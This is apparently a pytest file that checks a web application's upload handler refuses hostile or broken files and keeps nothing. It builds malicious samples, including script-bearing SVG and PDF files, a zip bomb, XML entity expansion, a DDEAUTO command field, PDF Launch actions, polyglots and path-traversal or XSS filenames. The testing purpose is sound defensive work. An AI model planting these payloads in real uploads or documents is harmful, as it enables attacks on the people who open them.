"""Uploads that mean harm, or are merely broken: each is refused in words, nothing is kept, nothing runs, and what was
typed beside them is still there."""

from __future__ import annotations

import io
import socket
import zlib
from collections.abc import Mapping
from typing import Any

import pytest
from PIL import Image

from cases.files import LocalFiles
from cases.store import Store
from tests.acts import Desk
from tests.web.chromium import serving
from tests.web.pages import Browser, filled_in
from tests.web.papers import DOCUMENT, TYPES, docx, giant_png, jpeg, mp4, pdf, relation, send, zipped
from tests.web.test_papers import add, address, lying, stored
from web.uploads.intake import plain_name
from web.uploads.problems import PROBLEMS

SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
BILLION = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>'
JS = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
ZEROS = b"<x>" + b"0" * 60_000_000 + b"</x>"


def bomb() -> bytes:
    return word({"word/big.xml": ZEROS})


def word(more: Mapping[str, str | bytes]) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, **more})


def lying_zip() -> bytes:
    """Says it is small and is not: the sizes of its directory are false."""
    box = bytearray(
        zipped({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT, "word/a.xml": b"<a>" + b"1" * 100_000})
    )
    at = box.rfind(b"PK\x01\x02")
    box[at + 24 : at + 28] = (10).to_bytes(4, "little")
    return bytes(box)


def locked_zip() -> bytes:
    box = bytearray(docx())
    at = box.rfind(b"PK\x01\x02")
    box[at + 8] |= 1
    return bytes(box)


def packed_js() -> bytes:
    """The script stands in a packed object stream, where a search of the bytes finds nothing."""
    inner = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    body = zlib.compress(inner)
    out = b"%PDF-1.5\n"
    places = {}
    for n, text in (
        (1, b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>"),
        (2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        (3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 200] >>"),
    ):
        places[n] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (n, text)
    places[5] = len(out)
    out += b"5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        len(body), body,
    )  # fmt: skip
    at = places[6] = len(out)
    rows = [(0, 0, 65535), *((1, places[n], 0) for n in (1, 2, 3)), (2, 5, 0), (1, places[5], 0), (1, at, 0)]
    table = zlib.compress(b"".join(bytes([kind]) + place.to_bytes(4) + more.to_bytes(2) for kind, place, more in rows))
    out += b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Filter /FlateDecode /Length %d >>\nstream\n" % len(
        table
    )
    return out + table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % at


def locked_pdf() -> bytes:
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt("secret", algorithm="AES-256")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def frames(n: int) -> bytes:
    """A moving PNG whose frames are worth nothing to us, cut off in the middle."""
    out = io.BytesIO()
    pictures = [Image.new("RGB", (500, 500), (n, 0, 0)) for n in range(n)]
    pictures[0].save(out, "WEBP", save_all=True, append_images=pictures[1:])
    return out.getvalue()[:60]


# what it is → (name, bytes, key of what is said)
HOSTILE: Mapping[str, tuple[str, bytes, str]] = {
    "empty": ("空.jpg", b"", "empty"),
    "html named jpg": ("照片.jpg", b"<html><body onload=alert(1)>", "markup"),
    "html after blanks": ("a.txt", b"\n\n  <!DOCTYPE html><script>1</script>", "markup"),
    "svg with a script": ("图.svg", SVG, "markup"),
    "svg named png": ("图.png", b'<?xml version="1.0"?>' + SVG, "markup"),
    "program for Windows": ("发票.pdf", b"MZ\x90\x00" + bytes(200), "unknown"),
    "program for Linux": ("a.jpg", b"\x7fELF" + bytes(200), "unknown"),
    "shell script with nulls": ("a.txt", b"#!/bin/sh\x00rm", "unknown"),
    "rar": ("a.rar", b"Rar!\x1a\x07\x00" + bytes(50), "unknown"),
    "gif": ("a.gif", b"GIF89a" + bytes(50), "unknown"),
    "old Word": ("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unknown"),
    "text too long": ("a.txt", b"a" * (2**20 + 1), "unknown"),
    "picture of any size": ("a.png", giant_png(60_000, 60_000), "too_many_dots"),
    "picture a hair too large": ("a.png", giant_png(10_000, 6_001), "too_many_dots"),
    "picture of no size": ("a.png", giant_png(0, 100), "broken"),
    "picture without its end": ("a.jpg", jpeg((800, 600))[:500], "broken"),
    "jpeg of three bytes": ("a.jpg", b"\xff\xd8\xff", "broken"),
    "jpeg that is a zip": ("a.jpg", b"\xff\xd8\xff" + docx(), "broken"),
    "webp cut off": ("a.webp", frames(3), "broken"),
    "heic that is none": ("a.heic", b"\x00\x00\x00\x18ftypheic" + bytes(400), "broken"),
    "zip bomb": ("a.docx", bomb(), "bomb"),
    "zip that lies about its size": ("a.docx", lying_zip(), "broken"),
    "thousands of parts": ("a.docx", docx(**{f"word__{n}.xml": "<a/>" for n in range(2100)}), "bomb"),
    "plain zip": ("a.zip", zipped({"a.txt": "x"}), "unknown"),
    "slides": ("a.pptx", zipped({"[Content_Types].xml": TYPES, "ppt/presentation.xml": "<a/>"}), "unknown"),
    "part outside": ("a.docx", docx(**{"..__..__etc__passwd": "x"}), "broken"),
    "locked Word": ("a.docx", locked_zip(), "locked"),
    "Word with macros": ("a.docx", word({"word/vbaProject.bin": b"x"}), "program"),
    "Word with macros by type": (
        "a.docx",
        zipped({"[Content_Types].xml": TYPES.replace("application/xml", "application/vnd.ms-word.document.macroEnabled.main+xml"), "word/document.xml": DOCUMENT}),
        "program",
    ),
    "Word with a template elsewhere": (
        "a.docx", word({"word/_rels/settings.xml.rels": relation("attachedTemplate", "http://x.example/t.dotm")}), "external",
    ),
    "Word with a picture elsewhere": (
        "a.docx", word({"word/_rels/document.xml.rels": relation("image", "http://x.example/p.png")}), "external",
    ),
    "Word with a file inside": ("a.docx", docx(word__embeddings__a=b"x"), "attachment"),
    "Word that runs a command": (
        "a.docx", word({"word/footer1.xml": '<?xml version="1.0"?><w:ftr xmlns:w="w"><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:ftr>'}), "external",
    ),
    "Word with entities": ("a.docx", zipped({"[Content_Types].xml": TYPES, "word/document.xml": BILLION}), "broken"),
    "Word in UTF-16": ("a.docx", zipped({"[Content_Types].xml": TYPES, "word/document.xml": DOCUMENT.encode("utf-16")}), "broken"),
    "something before the zip": ("a.docx", b"PK\x03\x04" + bytes(60) + docx(), "two_in_one"),
    "Excel with links elsewhere": ("a.xlsx", zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": "<a/>", "xl/externalLinks/externalLink1.xml": "<a/>"}), "external"),
    "PDF with a script": ("a.pdf", pdf(JS, "/OpenAction 4 0 R"), "program"),
    "PDF with a script by another spelling": ("a.pdf", pdf(JS.replace("/JavaScript", "/J#61vaScript"), "/OpenAction 4 0 R"), "program"),
    "PDF with a packed script": ("a.pdf", packed_js(), "program"),
    "PDF that starts a program": ("a.pdf", pdf("<< /S /Launch /F (cmd.exe) >>", "/OpenAction 4 0 R"), "program"),
    "PDF that sends a form": ("a.pdf", pdf("<< /S /SubmitForm /F (http://x.example) >>", "/OpenAction 4 0 R"), "program"),
    "PDF with a file inside": ("a.pdf", pdf("<< /Type /Filespec /EF << /F 5 0 R >> >>|<< /Type /EmbeddedFile >>", "/Names << /EmbeddedFiles 4 0 R >>"), "attachment"),
    "PDF and zip in one": ("a.pdf", pdf(tail=zipped({"a.txt": "x"})), "two_in_one"),
    "PDF and web page in one": ("a.pdf", pdf(tail=b"<html>" + b"x" * 2000), "two_in_one"),
    "PDF cut off": ("a.pdf", pdf()[:80], "broken"),
    "PDF of nothing": ("a.pdf", b"%PDF-1.7\n%%EOF\n", "broken"),
    "locked PDF": ("a.pdf", locked_pdf(), "locked"),
    "video that is none": ("a.mp4", b"\x00\x00\x00\x18ftypisom" + bytes(100), "broken"),
    "video with a box too long": ("a.mp4", mp4()[:-10], "broken"),
    "sound that is none": ("a.mp3", b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"<html>", "broken"),
}  # fmt: skip


def test_there_are_enough() -> None:
    assert len(HOSTILE) >= 40
    assert {code for _, _, code in HOSTILE.values()} >= set(PROBLEMS) - {"too_large", "too_many_pages", "virus", "busy"}


@pytest.mark.parametrize("what", HOSTILE)
def test_it_is_refused_in_words(handler: Browser, desk: Desk, app: Any, what: str) -> None:
    """A good file beside it is not kept either: all of them or none."""
    name, content, code = HOSTILE[what]
    case = desk.mediating()
    answer = add(handler, case, [(name, content), ("好的.txt", "好的".encode())], note="当时的情况写在这里。")
    assert answer.status_code == 422
    assert PROBLEMS[code].zh in answer.text
    assert "当时的情况写在这里。" in answer.text
    assert 'value="evidence" selected' in answer.text or 'value="evidence" checked' in answer.text
    assert stored(desk.store) == lying(app) == 0


@pytest.mark.parametrize(
    ("said", "kept"),
    [
        ("../../../etc/passwd", "passwd.txt"),
        ("C:\\Users\\li\\欠条.jpg", "欠条.txt"),
        ("a\x00b.txt", "ab.txt"),
        ("报告\u202egpj.exe", "报告gpj.txt"),
        ("\u200b\u200b", "文件.txt"),
        ("..", "文件.txt"),
        ("'\"><script>alert(1)</script>.jpg", "script_.txt"),
        ("很长" * 200 + ".pdf", "很长" * 40 + ".txt"),
        ("e\u0301tat.txt", "état.txt"),
        ("没有扩展名", "没有扩展名.txt"),
        ("CON.txt.", "CON.txt"),
    ],
)
def test_a_name_is_only_ever_words(said: str, kept: str) -> None:
    assert plain_name(said, "txt") == kept


def test_names_that_are_alike_are_told_apart_and_the_same_file_is_kept_once(handler: Browser, desk: Desk) -> None:
    case = desk.mediating()
    files = [("a.txt", b"one"), ("a.txt", b"two"), ("b.txt", b"one")]
    assert add(handler, case, files).status_code == 303
    page = handler.get(address(case))
    assert sorted(text.removeprefix("下载 ") for text in page.texts("main .small a")) == ["a (2).txt", "a.txt"]


def test_eleven_files_are_too_many_and_thirty_are_not_read(handler: Browser, desk: Desk, app: Any) -> None:
    case = desk.mediating()
    answer = add(handler, case, [(f"{n}.txt", b"%d" % n) for n in range(11)], note="十一个。")
    assert answer.status_code == 422
    assert "一次最多 10 个文件" in answer.text
    assert "十一个。" in answer.text
    answer = add(handler, case, [(f"{n}.txt", b"%d" % n) for n in range(30)])
    assert answer.status_code == 413
    assert "请减少附件" in answer.text
    assert stored(desk.store) == lying(app) == 0


def test_no_file_is_said_to_be_missing(handler: Browser, desk: Desk) -> None:
    answer = add(handler, desk.mediating(), [])
    assert answer.status_code == 422
    assert "请选择文件。" in answer.text


@pytest.mark.parametrize("cut", [200, 900])
def test_a_form_that_breaks_off_keeps_nothing(handler: Browser, desk: Desk, app: Any, cut: int) -> None:
    case = desk.mediating()
    page = handler.get(f"{address(case)}/add")
    body, kind = multipart(filled_in(page.form(f"{address(case)}/add"), {"kind": "evidence"}))
    headers = {"content-type": kind, "sec-fetch-site": "same-origin"}
    answer = handler.client.post(f"{address(case)}/add", content=body[:-cut], headers=headers, follow_redirects=False)
    assert answer.status_code in (400, 403, 422)
    assert stored(desk.store) == lying(app) == 0


def multipart(fields: Mapping[str, Any]) -> tuple[bytes, str]:
    parts = [
        b'--x\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
        % (name.encode(), str(value[0] if isinstance(value, list) else value).encode())
        for name, value in fields.items()
        if name != "files"
    ]
    file = (
        b'--x\r\nContent-Disposition: form-data; name="files"; filename="a.txt"\r\n\r\n'
        + b"words " * 100
        + b"\r\n--x--\r\n"
    )
    return b"".join(parts) + file, "multipart/form-data; boundary=x"


@pytest.mark.parametrize("length", ["9", "99999", "-1", "abc"])
def test_a_false_length_keeps_nothing(app: Any, handler: Browser, desk: Desk, length: str) -> None:
    case = desk.mediating()
    with serving(app) as site:
        answer = raw(site, case, handler, f"Content-Length: {length}\r\n", b"--x\r\nContent-Disposition: form-data;")
    assert b" 303 " not in answer[:20]
    assert stored(desk.store) == lying(app) == 0


def test_a_body_without_end_is_cut_off(app: Any, handler: Browser, desk: Desk) -> None:
    case, limit = desk.mediating(), app.state.web.settings.max_body_mb * 2**20
    block = b"10000\r\n" + bytes(65536) + b"\r\n"
    with serving(app) as site:
        answer = raw(site, case, handler, "Transfer-Encoding: chunked\r\n", block * (limit // 65536 + 40))
    assert answer[:40].startswith((b"HTTP/1.1 413", b"HTTP/1.1 400")) or answer == b""
    assert stored(desk.store) == lying(app) == 0


def raw(site: str, case: str, browser: Browser, headers: str, body: bytes) -> bytes:
    """What the server says to bytes of our own; b"" where it hangs up."""
    host, port = site.removeprefix("http://").split(":")
    cookies = "; ".join(f"{name}={value}" for name, value in browser.cookies.items())
    head = f"POST {address(case)}/add HTTP/1.1\r\nHost: {host}:{port}\r\nCookie: {cookies}\r\nSec-Fetch-Site: same-origin\r\n"
    head += f"Content-Type: multipart/form-data; boundary=x\r\nConnection: close\r\n{headers}\r\n"
    with socket.create_connection((host, int(port)), timeout=20) as peer:
        try:
            peer.sendall(head.encode() + body)
            peer.shutdown(socket.SHUT_WR)
            return peer.recv(4096)
        except OSError:
            return b""


def test_a_full_disk_keeps_nothing_and_says_so(
    handler: Browser, desk: Desk, app: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(*_: object) -> str:
        raise OSError(28, "No space left on device")

    case = desk.mediating()
    monkeypatch.setattr(LocalFiles, "put", full)
    page = handler.get(f"{address(case)}/add")
    answer = send(handler, page, f"{address(case)}/add", [("a.txt", b"x")], kind="evidence", of="1")
    assert answer.status_code in (500, 503)
    assert stored(desk.store) == 0


def test_what_is_not_kept_leaves_no_file(handler: Browser, desk: Desk, app: Any, store: Store) -> None:
    """The door refuses after the file was written: it is dropped again."""
    from cases.paper_deeds import MOST_PAPERS

    case = desk.mediating()
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("cases.paper_deeds.MOST_PAPERS", 0)
        answer = add(handler, case, [("a.txt", b"x")])
    assert answer.status_code == 422
    assert str(MOST_PAPERS) in answer.text
    assert stored(store) == lying(app) == 0
